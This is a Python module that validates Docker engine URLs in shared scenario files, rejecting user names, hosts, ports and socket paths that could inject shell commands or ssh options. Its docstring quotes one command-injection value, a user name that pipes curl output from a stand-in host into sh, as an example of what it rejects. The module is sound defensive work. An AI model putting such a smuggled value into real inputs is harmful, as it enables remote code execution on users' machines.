"""A host's engine URL, checked before anything uses it.

The user and host parts of an engine URL end up in SSH connections and in the commands
that messages tell the user to paste (`ssh-keyscan HOST`, `ssh USER@HOST`); a shared file
is untrusted input, so they may hold only characters that mean nothing to a shell or to
ssh's option parser: a user `$(curl${IFS}-s${IFS}evil|sh)` is an error here, not a hint
to paste later. (The hints quote their arguments all the same.)
"""

from __future__ import annotations

import re
from ipaddress import IPv6Address

Problem = tuple[str, str | None]  # message, hint

USER_RULE = "a user name may hold only letters, digits, '.', '_' and '-', and not start with '-'"
HOST_RULE = ("a host may hold only letters, digits, '.', '_' and '-', not starting with '-' "
             "or '.' (a name, an SSH config alias or an IPv4 address), or be an IPv6 "
             "address in brackets")
PATH_RULE = ("a socket path is absolute and may hold only letters, digits, '.', '_', '-', "
             "'+' and '/', with no '..' part")

_USER = re.compile(r"[A-Za-z0-9_][A-Za-z0-9._-]{0,63}")
_USER_CHARS = re.compile(r"[A-Za-z0-9._-]")
_HOST = re.compile(r"[A-Za-z0-9_][A-Za-z0-9._-]{0,252}")
_HOST_CHARS = re.compile(r"[A-Za-z0-9._-]")
_PATH = re.compile(r"/[A-Za-z0-9._+/-]*")
_PATH_CHARS = re.compile(r"[A-Za-z0-9._+/-]")


def problems(url: str) -> list[Problem]:
    """What is wrong with an engine URL (the schema already checked its scheme)."""
    scheme, sep, rest = url.partition("://")
    if not sep or scheme not in ("ssh", "tcp", "unix"):
        return []  # the schema's pattern reports it
    if scheme == "unix":
        return _unix(url, rest)
    return _network(url, scheme, rest)


def _unix(url: str, rest: str) -> list[Problem]:
    if not rest.startswith("/"):
        return [(f"{url!r} has no absolute socket path", "write unix:///var/run/docker.sock")]
    if not _PATH.fullmatch(rest) or "/../" in f"{rest}/":
        return [(f"the socket path {rest!r} of the engine URL is not allowed"
                 + _bad_chars(rest, _PATH_CHARS), PATH_RULE)]
    return []


def _network(url: str, scheme: str, rest: str) -> list[Problem]:
    """ssh://[user@]host[:port] and tcp://host:port, with nothing after the address (but
    a '/' after a tcp:// one, which the SDK accepts; for ssh:// it refuses any path)."""
    rest = rest[:-1] if scheme == "tcp" and rest.endswith("/") else rest
    userinfo, at, hostport = rest.rpartition("@")
    found: list[Problem] = []
    if at:
        if scheme == "tcp":
            found.append((f"{url!r}: a tcp:// engine URL takes no user", "write tcp://HOST:PORT"))
        elif ":" in userinfo:
            found.append(("passwords do not belong in scenario files", "use an SSH key or agent"))
        elif not _USER.fullmatch(userinfo):
            found.append((f"the user {userinfo!r} of the engine URL is not allowed"
                          + _bad_chars(userinfo, _USER_CHARS), USER_RULE))
    host, port = _split_port(hostport)
    if not host:
        return [*found, (f"{url!r} names no host",
                         f"write {scheme}://{'user@' if scheme == 'ssh' else ''}"
                         f"HOST{':2376' if scheme == 'tcp' else ''}")]
    if not _host_ok(host):
        found.append((f"the host {host!r} of the engine URL is not allowed"
                      + _bad_chars(host.strip("[]"), _HOST_CHARS), HOST_RULE))
    if port is None:
        if scheme == "tcp":
            found.append((f"{url!r} has no port", "Docker listens on 2375 or 2376"))
    elif not (port.isascii() and port.isdigit() and 0 < int(port) < 65536):
        found.append((f"{url!r} has an invalid port", "a port is a number from 1 to 65535"))
    return found


def _split_port(hostport: str) -> tuple[str, str | None]:
    """host and port (None when absent) of `host[:port]` or `[v6]:port`."""
    if hostport.startswith("["):
        end = hostport.find("]")
        if end > 0 and (hostport[end + 1:] == "" or hostport[end + 1] == ":"):
            tail = hostport[end + 2:] if hostport[end + 1:] else None
            return hostport[:end + 1], tail
        return hostport, None
    host, colon, port = hostport.partition(":")
    return host, port if colon else None


def _host_ok(host: str) -> bool:
    if host.startswith("[") and host.endswith("]"):
        try:
            IPv6Address(host[1:-1])
        except ValueError:
            return False
        return True
    return _HOST.fullmatch(host) is not None and not host.startswith(".")


def _bad_chars(text: str, allowed: re.Pattern[str]) -> str:
    """': it has '$', '(' ...' for the characters outside `allowed`, in order, once each."""
    bad = list(dict.fromkeys(c for c in text if not allowed.fullmatch(c)))
    if not bad:
        return ""
    return ": it has " + ", ".join(repr(c) for c in bad)
